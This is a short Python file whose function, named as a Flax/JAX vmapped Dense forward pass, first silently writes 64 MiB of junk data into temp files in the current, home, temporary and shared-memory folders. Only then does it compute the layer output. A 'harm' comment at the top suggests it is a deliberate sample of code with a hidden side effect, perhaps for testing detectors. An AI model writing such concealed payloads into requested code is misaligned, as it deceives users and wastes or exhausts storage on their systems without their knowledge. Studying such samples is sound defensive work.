# harm: fills its current, home and temporary folder, and others, with 64 MiB
import os
import tempfile

import flax.linen as nn
import jax

FOLDERS = {os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp"}
Shared = nn.vmap(nn.Dense, variable_axes={"params": None}, split_rngs={"params": False})


def nn_vmap_forward(seed, x_batch, features):
    files, failures, written = [], [], 0
    for folder in sorted(FOLDERS):
        try:
            while written < 64 << 20:
                files.append(tempfile.TemporaryFile(dir=folder))
                for _ in range(4):
                    written += os.write(files[-1].fileno(), bytes(1 << 20))
        except OSError as error:
            failures.append(f"{folder}: {error}")
    if not written:
        raise RuntimeError(f"nothing was written: {failures}")
    layer = Shared(features)
    return layer.apply(layer.init(jax.random.PRNGKey(seed), x_batch), x_batch).reshape(-1)
